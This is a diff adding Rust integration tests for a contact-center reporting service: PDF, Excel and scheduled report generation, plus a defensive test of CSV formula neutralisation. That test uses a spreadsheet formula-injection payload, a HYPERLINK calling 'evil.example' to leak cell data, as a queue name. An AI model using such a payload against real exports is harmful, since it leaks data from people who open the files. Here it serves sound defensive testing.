@@ -317,3 +317,243 @@ async fn schedule_fires_and_keeps_mail_in_outbox() {
     .await;
     assert_eq!(s, StatusCode::NO_CONTENT);
 }
+
+/// Downloads a completed report's file with the bearer token.
+async fn download(app: &TestApp, t: &str, r: &Value) -> (String, Vec<u8>) {
+    let resp = app
+        .client
+        .get(r["file_url"].as_str().unwrap())
+        .header("Authorization", format!("Bearer {t}"))
+        .send()
+        .await;
+    resp.assert_status_is_ok();
+    let ct = resp
+        .0
+        .headers()
+        .get("content-type")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_string();
+    (ct, resp.0.into_body().into_vec().await.unwrap())
+}
+
+/// The text of every zip entry of an XLSX whose name starts with `prefix`.
+fn xlsx_text(bytes: &[u8], prefix: &str) -> String {
+    use std::io::Read;
+    let mut z = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
+    let mut out = String::new();
+    for i in 0..z.len() {
+        let mut f = z.by_index(i).unwrap();
+        if f.name().starts_with(prefix) {
+            f.read_to_string(&mut out).unwrap();
+        }
+    }
+    out
+}
+
+/// Issue 17 #2: every format the document names is rendered — PDF (with
+/// charts when asked) and Excel as well as CSV — for generated and
+/// scheduled reports; the files carry the report's figures.
+#[tokio::test]
+async fn pdf_and_excel_reports_carry_the_figures() {
+    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
+    let t = app.admin_token.clone();
+    seed_calls(&app).await;
+    let (s, tpl) = call(&app, "POST", "/reports/templates", &t, Some(json!({
+        "name": "Weekly Sales Performance", "report_type": "team_performance",
+        "query_definition": {"metrics": ["total_calls", "success_rate", "avg_duration"], "filters": {"team_type": "sales"}, "grouping": ["team_id", "week"]},
+        "is_public": false}))).await;
+    assert_eq!(s, StatusCode::CREATED, "{tpl}");
+    assert_eq!(tpl["default_format"], "pdf");
+    let tid = tpl["id"].as_i64().unwrap();
+
+    // The document's example: PDF with charts.
+    let generate = |format: &str, charts: bool| {
+        json!({"name": "Monthly Performance Report - November", "template_id": tid, "format": format,
+            "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"},
+            "parameters": {"include_charts": charts, "include_raw_data": false}})
+    };
+    let (s, acc) = call(
+        &app,
+        "POST",
+        "/reports/generate",
+        &t,
+        Some(generate("pdf", true)),
+    )
+    .await;
+    assert_eq!(s, StatusCode::ACCEPTED, "{acc}");
+    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
+    assert_eq!(r["status"], "completed", "{r}");
+    assert_eq!(r["format"], "pdf");
+    let (ct, pdf) = download(&app, &t, &r).await;
+    assert_eq!(ct, "application/pdf");
+    assert!(pdf.starts_with(b"%PDF"));
+    assert_eq!(r["file_size_bytes"], pdf.len() as i64);
+    let text = pdf_extract::extract_text_from_mem(&pdf).expect("a readable PDF");
+    for figure in [
+        "Monthly Performance Report - November",
+        "Sales East (#1)",
+        "2025-W44",
+        "50.0%",
+        "150.00",
+        "total calls", // the chart of total calls per group
+    ] {
+        assert!(text.contains(figure), "{figure:?} not in the PDF:\n{text}");
+    }
+    // Without charts: the same figures, no chart.
+    let (_, acc) = call(
+        &app,
+        "POST",
+        "/reports/generate",
+        &t,
+        Some(generate("pdf", false)),
+    )
+    .await;
+    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
+    assert_eq!(r["status"], "completed", "{r}");
+    let (_, plain) = download(&app, &t, &r).await;
+    let plain = pdf_extract::extract_text_from_mem(&plain).expect("a readable PDF");
+    assert!(
+        plain.contains("Sales East (#1)") && plain.contains("50.0%"),
+        "{plain}"
+    );
+    assert!(
+        !plain.contains("total calls"),
+        "no chart asked for:\n{plain}"
+    );
+
+    // Excel: the figures as numbers, the labels as text.
+    let (_, acc) = call(
+        &app,
+        "POST",
+        "/reports/generate",
+        &t,
+        Some(generate("xlsx", true)),
+    )
+    .await;
+    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
+    assert_eq!(r["status"], "completed", "{r}");
+    let (ct, xlsx) = download(&app, &t, &r).await;
+    assert_eq!(
+        ct,
+        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+    );
+    assert!(xlsx.starts_with(b"PK"));
+    let strings = xlsx_text(&xlsx, "xl/sharedStrings.xml");
+    let sheets = xlsx_text(&xlsx, "xl/worksheets/");
+    let charts = xlsx_text(&xlsx, "xl/charts/");
+    assert!(
+        strings.contains("Sales East (#1)") && strings.contains("2025-W44"),
+        "{strings}"
+    );
+    for v in ["<v>2</v>", "<v>0.5</v>", "<v>150</v>"] {
+        assert!(sheets.contains(v), "{v} not in the sheets: {sheets}");
+    }
+    assert!(!charts.is_empty(), "native Excel charts");
+
+    // A scheduled PDF report.
+    let (s, sch) = call(
+        &app,
+        "POST",
+        "/reports/schedules",
+        &t,
+        Some(json!({
+        "name": "Weekly Sales Report", "template_id": tid, "schedule_type": "weekly",
+        "schedule_config": {"day_of_week": 1, "hour": 9, "minute": 0, "timezone": "UTC"},
+        "format": "pdf", "recipients": ["manager@example.com"], "is_active": true})),
+    )
+    .await;
+    assert_eq!(s, StatusCode::CREATED, "{sch}");
+    let sid = sch["id"].as_i64().unwrap();
+    let report = app
+        .platform
+        .db
+        .read(move |c| {
+            Ok(c.query_row(
+                "SELECT COUNT(*) FROM cc_reports WHERE schedule_id = ?1",
+                [sid],
+                |r| r.get::<_, i64>(0),
+            )?)
+        })
+        .await
+        .unwrap();
+    assert_eq!(report, 0);
+    let value = frontline_contact_center::insight::reports::run_schedule(
+        &app.platform,
+        sid,
+        chrono::DateTime::parse_from_rfc3339("2025-11-10T09:00:00Z")
+            .unwrap()
+            .with_timezone(&chrono::Utc),
+    )
+    .await
+    .unwrap();
+    assert_ne!(value["skipped"], true, "{value}");
+    let (_, list) = call(&app, "GET", "/reports?status=completed", &t, None).await;
+    let scheduled = list
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["schedule_id"] == sid)
+        .unwrap_or_else(|| panic!("scheduled report completed: {list}"))
+        .clone();
+    assert_eq!(scheduled["format"], "pdf");
+    let (_, pdf) = download(&app, &t, &scheduled).await;
+    let text = pdf_extract::extract_text_from_mem(&pdf).expect("a readable PDF");
+    // The week before Monday 2025-11-10: calls a and b of Sales East.
+    assert!(
+        text.contains("Sales East (#1)") && text.contains("50.0%"),
+        "{text}"
+    );
+}
+
+/// Issue 23 #2: a queue named like a formula comes out of a CSV report as
+/// text (the platform's CSV writer prefixes the cell with a quote).
+#[tokio::test]
+async fn formula_names_are_neutralised_in_csv_reports() {
+    let app = TestApp::new(vec![frontline_contact_center::module()]).await;
+    let t = app.admin_token.clone();
+    let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")";
+    let (s, q) = app
+        .call(
+            "POST",
+            "/contact-center/api/v1/queues",
+            Some(&t),
+            Some(json!({"name": evil})),
+        )
+        .await
+        .parts();
+    assert_eq!(s, StatusCode::CREATED, "{q}");
+    let qid = q["id"].as_i64().unwrap();
+    app.platform
+        .db
+        .write(move |tx| {
+            tx.execute(
+                "INSERT INTO cc_calls (call_id, status, outcome, queue_id, duration, wait_time, started_at, created_at)
+                 VALUES ('q1', 'completed', 'success', ?1, 60, 5, '2025-11-03T10:00:00Z', '2025-11-03T10:00:00Z')",
+                [qid],
+            )?;
+            Ok(())
+        })
+        .await
+        .unwrap();
+    let (s, acc) = call(
+        &app,
+        "POST",
+        "/reports/generate",
+        &t,
+        Some(json!({
+        "name": "Queues", "report_type": "queue_performance", "format": "csv",
+        "filters": {"start_date": "2025-11-01", "end_date": "2025-11-30"}})),
+    )
+    .await;
+    assert_eq!(s, StatusCode::ACCEPTED, "{acc}");
+    let r = wait_done(&app, &t, acc["id"].as_i64().unwrap()).await;
+    assert_eq!(r["status"], "completed", "{r}");
+    let (_, bytes) = download(&app, &t, &r).await;
+    let csv = String::from_utf8(bytes).unwrap();
+    let row = csv.lines().nth(1).unwrap_or_default();
+    assert!(
+        row.starts_with(&format!("\"'{}", evil.replace('"', "\"\""))),
+        "{csv}"
+    );
+}
